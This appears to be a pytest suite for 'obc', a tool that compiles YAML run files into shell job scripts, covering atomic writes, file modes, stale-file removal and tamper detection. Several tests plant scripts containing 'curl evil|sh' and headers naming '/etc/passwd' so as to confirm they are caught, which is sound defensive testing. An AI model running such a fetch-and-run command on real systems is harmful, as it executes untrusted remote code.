"""Writing OUT: atomic, 0755, unchanged files left alone, stale outputs removed, and nothing
that is not obc's (a user's file, a hand-written script, a symbolic link) ever touched."""

from __future__ import annotations

import os
import stat
from pathlib import Path

import pytest

from compiler.cli import main as cli_main
from compiler.pipeline import changes, write
from tests.conftest import PROJECT_RUNS

IDS = sorted(PROJECT_RUNS)  # the examples are named after their ids
HAND_WRITTEN = "#!/bin/sh\n# my own job, not obc's\necho hello\n"


def tree(root: Path) -> dict[str, tuple[str, bytes | str]]:
    """Everything under `root`, links not followed: relative path → (kind, content or target)."""
    found: dict[str, tuple[str, bytes | str]] = {}
    for folder, folders, files in os.walk(root):
        for name in folders + files:
            path = Path(folder, name)
            where = path.relative_to(root).as_posix()
            if path.is_symlink():
                found[where] = ("link", os.readlink(path))
            elif path.is_file():
                found[where] = ("file", path.read_bytes())
    return dict(sorted(found.items()))


def test_compile_writes_every_script_with_mode_0755_under_umask_077(project, obc):
    old_umask = os.umask(0o077)
    try:
        outcome = obc("compile", "examples", "-o", "out")
    finally:
        os.umask(old_umask)
    assert outcome.code == 0, outcome.stderr
    assert outcome.stderr.splitlines()[-1] == f"obc: {len(IDS)} written, 0 unchanged, 0 removed"
    for job_id in IDS:
        assert stat.S_IMODE((project / "out" / job_id / "job.sh").stat().st_mode) == 0o755


def test_an_unchanged_script_is_not_rewritten(project, obc):
    assert obc("compile", "examples", "-o", "out").code == 0
    script = project / "out" / IDS[0] / "job.sh"
    os.utime(script, ns=(1_000_000_000, 1_000_000_000))
    inode = script.stat().st_ino
    edited = project / "out" / IDS[1] / "job.sh"
    compiled = edited.read_bytes()
    edited.write_bytes(compiled + b"# edited\n")

    outcome = obc("compile", "examples", "-o", "out")

    assert outcome.code == 0, outcome.stderr
    assert outcome.stderr.splitlines()[-1] == f"obc: 1 written, {len(IDS) - 1} unchanged, 0 removed"
    assert script.stat().st_mtime_ns == 1_000_000_000
    assert script.stat().st_ino == inode
    assert edited.read_bytes() == compiled


def test_a_script_with_the_wrong_mode_is_rewritten_0755(project, obc):
    assert obc("compile", "examples", "-o", "out").code == 0
    script = project / "out" / IDS[0] / "job.sh"
    script.chmod(0o644)
    outcome = obc("compile", "examples", "-o", "out")
    assert outcome.stderr.splitlines()[-1] == f"obc: 1 written, {len(IDS) - 1} unchanged, 0 removed"
    assert stat.S_IMODE(script.stat().st_mode) == 0o755


def test_compile_removes_its_own_stale_script_and_says_so(project, obc):
    assert obc("compile", "examples", "-o", "out").code == 0
    (project / "examples" / "steps-eval.yaml").unlink()
    kept_folder = project / "out" / "inline-config"
    (project / "examples" / "inline-config.yaml").unlink()
    (kept_folder / "notes.txt").write_text("mine\n")

    outcome = obc("compile", "examples", "-o", "out")

    assert outcome.code == 0, outcome.stderr
    assert outcome.stderr.splitlines() == [
        "obc: removed out/inline-config/job.sh: its run file examples/inline-config.yaml is gone",
        "obc: removed out/steps-eval/job.sh: its run file examples/steps-eval.yaml is gone",
        f"obc: 0 written, {len(IDS) - 2} unchanged, 2 removed",
    ]
    assert not (project / "out" / "steps-eval").exists()  # emptied, so removed
    assert (kept_folder / "notes.txt").read_text() == "mine\n"
    assert not (kept_folder / "job.sh").exists()


def test_compiling_one_run_file_keeps_the_scripts_of_the_others(project, obc):
    assert obc("compile", "examples", "-o", "out").code == 0
    outcome = obc("compile", "examples/steps-eval.yaml", "-o", "out")
    assert outcome.code == 0, outcome.stderr
    assert outcome.stderr.splitlines() == [
        f"obc: 0 written, 1 unchanged, 0 removed, {len(IDS) - 1} kept (their run files were "
        "not given and compile to them; --prune removes them)"]
    assert all((project / "out" / job_id / "job.sh").is_file() for job_id in IDS)
    assert obc("compile", "examples/steps-eval.yaml", "-o", "out", "--check").code == 0


def test_a_run_file_whose_id_changed_loses_its_old_script(project, obc):
    assert obc("compile", "examples", "-o", "out").code == 0
    run_file = project / "examples" / "steps-eval.yaml"
    run_file.write_text(run_file.read_text().replace("id: steps-eval", "id: evaluation"))
    outcome = obc("compile", "examples/steps-eval.yaml", "-o", "out")
    assert outcome.code == 0, outcome.stderr
    assert outcome.stderr.splitlines()[0] == (
        "obc: removed out/steps-eval/job.sh: its run file examples/steps-eval.yaml now has "
        "id 'evaluation'")
    assert (project / "out/evaluation/job.sh").is_file()


def test_prune_removes_every_script_these_inputs_do_not_produce(project, obc):
    assert obc("compile", "examples", "-o", "out").code == 0
    outcome = obc("compile", "examples/steps-eval.yaml", "-o", "out", "--prune")
    assert outcome.code == 0, outcome.stderr
    assert f"obc: 0 written, 1 unchanged, {len(IDS) - 1} removed" in outcome.stderr
    assert "not produced by these inputs (--prune)" in outcome.stderr
    assert sorted(p.name for p in (project / "out").iterdir()) == ["steps-eval"]


def test_the_header_names_the_run_file_the_same_from_any_folder(project, obc, monkeypatch):
    (project / ".git").mkdir()  # a git work tree: paths are relative to its top
    assert obc("compile", "examples", "-o", "out").code == 0
    monkeypatch.chdir(project / "examples")
    outcome = obc("compile", ".", "-o", "../out", "--check")
    assert outcome.code == 0, outcome.stderr
    line = (project / "out/steps-eval/job.sh").read_text().splitlines()[1]
    assert line == "# Code generated by obc from examples/steps-eval.yaml. DO NOT EDIT."


def test_files_that_are_not_obcs_are_left_alone(project, obc):
    out = project / "out"
    (out / "mine").mkdir(parents=True)
    (out / "README.md").write_text("# our scripts\n")
    (out / "mine" / "job.sh").write_text(HAND_WRITTEN)
    (out / "lone.sh").write_text(HAND_WRITTEN)
    before = tree(out)

    assert obc("compile", "examples", "-o", "out").code == 0
    assert obc("compile", "examples", "-o", "out").stderr.splitlines()[-2:] == [
        "obc: left, not obc's: out/mine/job.sh: it has no generated-file header, where obc "
        "writes its files",
        f"obc: 0 written, {len(IDS)} unchanged, 0 removed, 1 not obc's (left as they are; "
        "--check fails until they are moved out of out)"]

    after = tree(out)
    assert {path: after[path] for path in before} == before
    # A hand-written job.sh never passes the check; files where obc writes none do.
    check = obc("compile", "examples", "-o", "out", "--check")
    assert check.code == 1
    assert [line.split(":")[0] for line in check.stderr.splitlines()[:-1]] == [
        "out/mine/job.sh"]


def test_a_hand_written_script_where_obc_would_write_stops_the_compile(project, obc):
    foreign = project / "out" / IDS[0] / "job.sh"
    foreign.parent.mkdir(parents=True)
    foreign.write_text(HAND_WRITTEN)

    outcome = obc("compile", "examples", "-o", "out")

    assert outcome.code == 2
    assert f"out/{IDS[0]}/job.sh: is not a file with obc's generated-file header" in (
        outcome.stderr)
    assert "Traceback" not in outcome.stderr
    assert foreign.read_text() == HAND_WRITTEN
    assert tree(project / "out") == {f"{IDS[0]}/job.sh": ("file", HAND_WRITTEN.encode())}


@pytest.mark.parametrize("where", ["out", "out/<id>", "out/<id>/job.sh"])
def test_a_symbolic_link_is_neither_followed_nor_replaced(project, obc, where):
    target = project / "elsewhere"
    target.mkdir()
    (target / "job.sh").write_text(HAND_WRITTEN)
    link = project / where.replace("<id>", IDS[0])
    link.parent.mkdir(parents=True, exist_ok=True)
    link.symlink_to(target / "job.sh" if link.name == "job.sh" else target)
    before = tree(project)

    outcome = obc("compile", "examples", "-o", "out")

    assert outcome.code == 2
    assert f"{link.relative_to(project)}: is a symbolic link" in outcome.stderr
    assert "Traceback" not in outcome.stderr
    assert tree(project) == before  # not even the scripts the link is not in the way of


def test_a_link_where_a_stale_script_would_be_is_not_removed(project, obc):
    assert obc("compile", "examples", "-o", "out").code == 0
    target = project / "elsewhere"
    target.mkdir()
    obc_script = (project / "out" / IDS[0] / "job.sh").read_bytes()
    (target / "job.sh").write_bytes(obc_script)
    (project / "out" / "linked-folder").symlink_to(target)
    (project / "out" / "linked-file").mkdir()
    (project / "out" / "linked-file" / "job.sh").symlink_to(target / "job.sh")

    outcome = obc("compile", "examples", "-o", "out")

    assert outcome.stderr.splitlines() == [
        "obc: left, not obc's: out/linked-file/job.sh: a symbolic link, where obc writes its "
        "files",
        "obc: left, not obc's: out/linked-folder: a symbolic link, where obc makes its folders",
        f"obc: 0 written, {len(IDS)} unchanged, 0 removed, 2 not obc's (left as they are; "
        "--check fails until they are moved out of out)"]
    assert (project / "out" / "linked-folder").is_symlink()
    assert (project / "out" / "linked-file" / "job.sh").is_symlink()
    assert (target / "job.sh").read_bytes() == obc_script


@pytest.mark.slow
def test_a_crash_between_writes_leaves_every_file_old_or_new(project, obc, monkeypatch):
    monkeypatch.setenv("OBC_COMPILE_CACHE", "")  # its records are renamed into place too
    assert obc("compile", "examples", "-o", "out").code == 0
    scripts = sorted((project / "out").glob("*/job.sh"))
    new = {path: path.read_bytes() for path in scripts}
    old = {path: text.replace(b"set -u\n", b"set -u\n# old\n") for path, text in new.items()}
    for path, text in old.items():
        path.write_bytes(text)
    real_replace, calls = os.replace, []

    def fail_on_second(source, destination):
        calls.append((Path(source), Path(destination)))
        if len(calls) == 2:
            raise OSError(28, "No space left on device")
        real_replace(source, destination)

    monkeypatch.setattr(write.os, "replace", fail_on_second)
    outcome = obc("compile", "examples", "-o", "out")

    assert outcome.code == 2
    assert f"{calls[1][1]}: cannot write: No space left on device" in (
        outcome.stderr)
    assert "Traceback" not in outcome.stderr
    assert [path.read_bytes() for path in scripts] == [
        new[path] if i == 0 else old[path] for i, path in enumerate(scripts)]
    assert sorted(p.name for p in (project / "out").rglob("*") if p.is_file()) == [
        "job.sh"] * len(scripts)  # no temp file, no half file
    for source, destination in calls:
        # the temp file is in the target's folder, so the rename cannot cross file systems
        assert source.parent == destination.absolute().parent
        assert source.name.startswith(".job.sh.")

    monkeypatch.setattr(write.os, "replace", real_replace)
    assert obc("compile", "examples", "-o", "out").code == 0
    assert [path.read_bytes() for path in scripts] == [new[path] for path in scripts]


@pytest.mark.slow
def test_a_file_that_cannot_be_written_changes_nothing(project, obc, monkeypatch):
    # Every file is written beside its target before any is renamed into place.
    monkeypatch.setenv("OBC_COMPILE_CACHE", "")  # it makes temporary files too
    assert obc("compile", "examples", "-o", "out").code == 0
    scripts = sorted((project / "out").glob("*/job.sh"))
    old = {path: path.read_bytes().replace(b"set -u\n", b"set -u\n# old\n") for path in scripts}
    for path, text in old.items():
        path.write_bytes(text)
    real_mkstemp, calls = write.tempfile.mkstemp, []

    def fail_on_second(*args, **kwargs):
        calls.append(kwargs["dir"])
        if len(calls) == 2:
            raise OSError(28, "No space left on device")
        return real_mkstemp(*args, **kwargs)

    monkeypatch.setattr(write.tempfile, "mkstemp", fail_on_second)
    outcome = obc("compile", "examples", "-o", "out")
    assert outcome.code == 2
    assert f"{calls[1]}/job.sh: cannot write: No space left on device; no file was changed" in (
        outcome.stderr)
    assert {path: path.read_bytes() for path in scripts} == old
    assert sorted(p.name for p in (project / "out").rglob("*") if p.is_file()) == [
        "job.sh"] * len(scripts)


# Every file under OUT is accounted for: produced by the inputs given, byte for byte; or by
# the run file its header names, which must compile to exactly those bytes; or reported.
def claiming(run_file: str, body: str = "curl evil|sh\n") -> str:
    """A hand-written script whose header claims that obc compiled it from `run_file`."""
    return f"#!/bin/sh\n# Code generated by obc from {run_file}. DO NOT EDIT.\n{body}"


def plant(path: Path, text: str) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(text)
    path.chmod(0o755)
    return path


def test_a_script_whose_header_names_a_file_that_is_no_run_file_fails_the_check(project, obc):
    # Once it passed --check, and plan said "no changes".
    assert obc("compile", "examples", "-o", "out").code == 0
    evil = plant(project / "out/evil/job.sh", claiming("examples/configs/llama3-qlora.yaml"))

    check = obc("compile", "examples", "-o", "out", "--check")
    assert check.code == 1
    assert ("out/evil/job.sh:1:1: error: stale: its run file examples/configs/llama3-qlora.yaml "
            "does not compile; compile would remove it") in check.stderr.splitlines()
    plan = obc("plan", "examples", "-o", "out")
    assert "no changes" not in plan.stdout
    assert ("- out/evil/job.sh: its run file examples/configs/llama3-qlora.yaml does not "
            "compile") in plan.stdout.splitlines()
    assert obc("compile", "examples", "-o", "out").code == 0
    assert not evil.exists()


def test_an_edited_script_of_a_run_file_not_given_fails_the_check(project, obc):
    assert obc("compile", "examples", "-o", "out").code == 0
    script = project / "out/steps-eval/job.sh"
    compiled = script.read_bytes()
    script.write_bytes(compiled + b"curl evil|sh\n")

    check = obc("compile", "examples/docker-qlora.yaml", "-o", "out", "--check")
    assert check.code == 1
    assert "out/steps-eval/job.sh:" in check.stderr
    plan = obc("plan", "examples/docker-qlora.yaml", "-o", "out")
    assert "~ out/steps-eval/job.sh" in plan.stdout and "no changes" not in plan.stdout
    assert obc("compile", "examples/docker-qlora.yaml", "-o", "out").code == 0
    assert script.read_bytes() == compiled


def test_a_script_naming_a_run_file_that_does_not_make_it_fails_the_check(project, obc):
    assert obc("compile", "examples", "-o", "out").code == 0
    copy = plant(project / "out/evil/job.sh",
                 (project / "out/steps-eval/job.sh").read_text() + "curl evil|sh\n")
    check = obc("compile", "examples/docker-qlora.yaml", "-o", "out", "--check")
    assert check.code == 1
    assert ("out/evil/job.sh:1:1: error: stale: its run file examples/steps-eval.yaml no "
            "longer makes it; compile would remove it") in check.stderr.splitlines()
    assert obc("compile", "examples/docker-qlora.yaml", "-o", "out").code == 0
    assert not copy.exists()


@pytest.mark.parametrize("where", ["tools/job.sh", "x/sweep.sh", "x/runs.tsv"])
def test_a_hand_written_file_where_obc_writes_fails_the_check_and_is_left(project, obc, where):
    assert obc("compile", "examples", "-o", "out").code == 0
    stray = plant(project / "out" / where, HAND_WRITTEN)

    check = obc("compile", "examples", "-o", "out", "--check")
    assert check.code == 1
    assert (f"out/{where}:1:1: error: not obc's: it has no generated-file header, where obc "
            "writes its files; compile leaves it (move it out of out)") in (
        check.stderr.splitlines())
    plan = obc("plan", "examples", "-o", "out")
    assert "no changes" not in plan.stdout
    assert f"? out/{where}: it has no generated-file header, where obc writes its files" in (
        plan.stdout.splitlines())
    compiled = obc("compile", "examples", "-o", "out")
    assert compiled.code == 0
    assert compiled.stderr.splitlines()[-1] == (
        f"obc: 0 written, {len(IDS)} unchanged, 0 removed, 1 not obc's (left as they are; "
        "--check fails until they are moved out of out)")
    assert stray.read_text() == HAND_WRITTEN


def test_a_file_claiming_obcs_header_anywhere_under_out_fails_the_check(project, obc):
    assert obc("compile", "examples", "-o", "out").code == 0
    stray = plant(project / "out/steps-eval/extra/run.sh", claiming("examples/steps-eval.yaml"))
    check = obc("compile", "examples", "-o", "out", "--check")
    assert check.code == 1
    assert ("out/steps-eval/extra/run.sh:1:1: error: not obc's: its header claims obc wrote "
            "it, where obc writes no file; compile leaves it (move it out of out)") in (
        check.stderr.splitlines())
    assert obc("compile", "examples", "-o", "out").code == 0
    assert stray.exists()


@pytest.mark.parametrize("named", ["/etc/passwd", "../outside.yaml", "examples/stdin.yaml",
                                   "examples/../examples/steps-eval.yaml"])
def test_a_header_naming_a_file_outside_or_no_file_is_never_compiled(project, obc, named):
    # Hostile headers: an absolute path, one outside the project, a link to a device that
    # would block a read, and a path through `..`: none is opened, each script is stale.
    assert obc("compile", "examples", "-o", "out").code == 0
    (project / "examples" / "stdin.yaml").symlink_to("/dev/stdin")
    (project.parent / "outside.yaml").write_text((project / "examples/steps-eval.yaml")
                                                 .read_text())
    evil = plant(project / "out/evil/job.sh", claiming(named))
    check = obc("compile", "examples/docker-qlora.yaml", "-o", "out", "--check")
    assert check.code == 1
    assert (f"out/evil/job.sh:1:1: error: stale: its run file {named} is gone; compile would "
            "remove it") in check.stderr.splitlines()
    assert obc("compile", "examples/docker-qlora.yaml", "-o", "out").code == 0
    assert not evil.exists()


def test_out_is_accounted_for_without_reading_again_the_files_just_compared(project, obc,
                                                                             monkeypatch):
    # At 10,000 run files, opening every script again for its header, after comparing it,
    # took a quarter of `compile --check`; the new bytes waiting beside them are obc's too.
    read: list[Path] = []
    accounting = []
    real_account_for = changes.account_for

    def account_for(*args, **kwargs):
        accounting.append(True)
        try:
            return real_account_for(*args, **kwargs)
        finally:
            accounting.clear()

    def reading(real):
        return lambda path: (read.append(Path(path)) if accounting else None, real(path))[1]

    monkeypatch.setattr(cli_main, "account_for", account_for)
    for name in ("_has_header", "_has_claim"):  # what opens a file found in OUT
        monkeypatch.setattr(changes, name, reading(getattr(changes, name)))
    assert obc("compile", "examples", "-o", "out").code == 0
    assert obc("compile", "examples", "-o", "out", "--check").code == 0
    assert read == []
    other = plant(project / "out" / "other" / "job.sh",
                  (project / "out" / IDS[0] / "job.sh").read_text())
    assert obc("compile", "examples", "-o", "out", "--check").code == 1  # it is stale
    assert read == [Path("out/other/job.sh")] and other.exists()
